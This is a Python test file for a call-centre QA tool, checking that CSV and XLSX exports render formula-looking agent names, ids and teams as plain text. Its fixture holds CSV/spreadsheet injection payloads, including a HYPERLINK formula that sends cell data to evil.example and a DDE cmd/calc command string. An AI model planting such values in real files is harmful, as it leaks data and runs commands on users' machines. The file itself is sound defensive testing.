"""Safe exports (issue 16, point 5): an agent name, agent id or team that starts like a formula is written as
text: in CSV with a leading quote (OWASP), in XLSX as a string cell. Checked by reading the files back with
csv and openpyxl, from the CLI and from the web app's download."""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.review_helpers import qa, sql, users_db, web

EVIL = {"agent": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "team": "+1+cmd", "other": "-2+3"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def db(reference_db: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """Two agents' calls renamed to formula-looking ids, names and teams (as a manifest could bring them)."""
    path = users_db(reference_db, tmp_path_factory.mktemp("exports"))
    week = sql(path, "SELECT week FROM calls GROUP BY week ORDER BY count(*) DESC LIMIT 1")[0][0]
    a, b = [r[0] for r in sql(path, "SELECT DISTINCT agent_id FROM calls WHERE week=? ORDER BY 1", week)][:2]
    with sqlite3.connect(path) as conn:
        for table in ("calls", "queue_items"):
            conn.execute(f"UPDATE {table} SET agent_id=?, team=? WHERE agent_id=?", (EVIL["agent"], EVIL["team"], a))
            conn.execute(f"UPDATE {table} SET agent_id=? WHERE agent_id=?", (EVIL["other"], b))
        conn.execute("UPDATE agents SET agent_id=?, name=?, team=? WHERE agent_id=?", (EVIL["agent"], EVIL["name"],
                                                                                      EVIL["team"], a))
        conn.execute("UPDATE agents SET agent_id=? WHERE agent_id=?", (EVIL["other"], b))
        conn.execute("INSERT OR IGNORE INTO teams VALUES (?)", (EVIL["team"],))
    return path, week


def check_csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a number may start with "-" or "+"
    text = [cell for row in rows for cell in row]
    for value in EVIL.values():
        if any(value in cell for cell in text):
            assert "'" + value in text or any(cell.startswith("'") and value in cell for cell in text), value
    return rows


def check_xlsx(data: bytes, tmp_path: Path) -> list[str]:
    path = tmp_path / "card.xlsx"
    path.write_bytes(data)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    values = []
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    values.append(c.value)
    return values


def test_scorecard_csv_from_the_cli_and_the_web_quotes_formula_cells(db: tuple[Path, str], tmp_path: Path) -> None:
    path, week = db
    out = tmp_path / "card.csv"
    qa("scorecard", "--week", week, "--format", "csv", "--db", path, "--out", out)
    rows = check_csv(out.read_bytes())
    header = rows[0]
    by_agent = {r[header.index("agent_id")]: r for r in rows[1:]}
    assert "'" + EVIL["agent"] in by_agent and "'" + EVIL["other"] in by_agent
    assert by_agent["'" + EVIL["agent"]][header.index("agent_name")] == "'" + EVIL["name"]
    assert by_agent["'" + EVIL["agent"]][header.index("team")] == "'" + EVIL["team"]
    resp = web(path, "hr1").get("/scorecards/export", params={"week": week, "fmt": "csv"})
    assert resp.status_code == 200 and resp.content == out.read_bytes()


def test_scorecard_xlsx_writes_formula_looking_text_as_string_cells(db: tuple[Path, str], tmp_path: Path) -> None:
    path, week = db
    out = tmp_path / "card.xlsx"
    qa("scorecard", "--week", week, "--format", "xlsx", "--db", path, "--out", out)
    values = check_xlsx(out.read_bytes(), tmp_path)
    for value in EVIL.values():  # kept exactly, as text
        assert value in values, value
    resp = web(path, "hr1").get("/scorecards/export", params={"week": week, "fmt": "xlsx"})
    assert resp.status_code == 200
    assert set(check_xlsx(resp.content, tmp_path)) == set(values)


def test_daily_report_csv_quotes_formula_cells(db: tuple[Path, str], tmp_path: Path) -> None:
    path, _ = db
    day = sql(path, "SELECT substr(started_at, 1, 10) FROM calls WHERE team=? LIMIT 1", EVIL["team"])[0][0]
    out = tmp_path / "daily.csv"
    qa("report", "daily", "--date", day, "--format", "csv", "--db", path, "--out", out)
    rows = check_csv(out.read_bytes())
    assert ["calls_by_team", "'" + EVIL["team"]] == rows[[r[1] for r in rows].index("'" + EVIL["team"])][:2]
